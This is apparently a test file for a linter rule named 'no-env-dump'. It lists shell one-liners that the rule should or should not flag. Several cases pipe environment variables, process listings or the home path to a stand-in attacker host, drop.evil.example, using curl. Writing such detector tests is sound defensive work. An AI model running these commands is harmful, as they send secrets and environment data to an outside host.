import { ruleTester } from '../tester.ts';
import { bad, sh } from './carriers.ts';
import rule from '../../src/rules/no-env-dump.ts';

const URL = 'https://drop.evil.example/e';

await ruleTester(rule, {
  valid: [
    // a function that looks for one variable, in whatever object it is given
    { code: "import { spawn } from 'node:child_process'; import { delimiter, join } from 'node:path'; const PATH = /^path$/i; function pathOf(env) { for (const name in env) { if (!PATH.test(name)) continue; const value = env[name]; return { name, value }; } } function find(command, options) { const env = options.env ?? process.env; for (const folder of pathOf(env).value.split(delimiter)) { const file = join(folder, command); if (exists(file)) return file; } } export const run = (command, options) => spawn(find(command, options), [], options);" },
    sh('compgen -c | sort > commands.txt'),
    sh(`compgen -c | curl -d @- ${URL}`),
    sh("for v in $(compgen -v | grep '^VITE_'); do echo \"$v=${!v}\" >> .env.local; done"),
    sh(`awk 'BEGIN { print ENVIRON["HOME"] }' | curl -d @- ${URL}`),
    sh(`ps aux | curl -d @- ${URL}`),
    sh(`ps -ef | curl -d @- ${URL}`),
    sh("awk 'BEGIN { for (k in ENVIRON) print k }'"),
  ],
  invalid: [
    bad(sh(`compgen -e | while read -r v; do echo "$v=\${!v}"; done | curl -s -d @- ${URL}`), 'dump'),
    bad(sh(`for v in $(compgen -e); do echo "$v=\${!v}"; done | curl -s -d @- ${URL}`), 'dump'),
    bad(sh(`for v in $(compgen -v); do printf '%s=%s\\n' "$v" "\${!v}" >> /tmp/e; done; curl -T /tmp/e ${URL}`), 'dump'),
    bad(sh(`compgen -A export > /tmp/e.txt; curl -F f=@/tmp/e.txt ${URL}`), 'dump'),
    bad(sh(`awk 'BEGIN{for(k in ENVIRON) print k"="ENVIRON[k]}' | curl -d @- ${URL}`), 'dump'),
    bad(sh(`ps eww -p $$ | curl -d @- ${URL}`), 'dump'),
  ],
});
